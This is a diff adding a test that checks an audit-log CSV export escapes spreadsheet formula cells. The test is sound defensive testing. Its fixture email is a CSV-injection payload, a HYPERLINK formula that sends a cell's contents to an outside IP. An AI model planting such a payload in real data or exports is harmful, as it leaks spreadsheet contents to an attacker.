@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
@@ -165,3 +167,29 @@ def test_export_writes_the_files_and_a_manifest(
         *args[:3], str(tmp_path / "e4"), "--since", "soon", server=server_url, token=auditor
     )
     assert bad_since.exit_code == 2 and "--since" in bad_since.stderr
+
+
+def test_a_csv_export_quotes_formula_cells_and_says_so(
+    world: World, run: Cli, server_url: str, tmp_path: Path
+) -> None:
+    email = '=HYPERLINK("http://198.51.100.66/?d="&A1,"open")'
+    resp = world.client.post("/api/v1/auth/login", json={"email": email, "password": "wrong"})
+    assert resp.status_code == 401, resp.text
+    out = tmp_path / "export"
+    done = run(
+        "audit",
+        "export",
+        "--out",
+        str(out),
+        server=server_url,
+        token=world.operators["auditor"].token,
+    )
+    assert done.exit_code == 0, done.output
+    manifest = json.loads((out / "manifest.json").read_text())
+    written = (out / "records.csv").read_bytes()
+    assert hashlib.sha256(written).hexdigest() == manifest["files"][0]["sha256"]
+    assert manifest["csv_escaping"]["reverse"].startswith("drop one leading '")
+    rows = list(csv.DictReader(io.StringIO(written.decode())))
+    [failed] = [r for r in rows if r["action"] == "login_failed"]
+    assert failed["actor"].startswith("'=")
+    assert not any(c and c[0] in "=+-@\t\r" for r in rows for c in r.values())
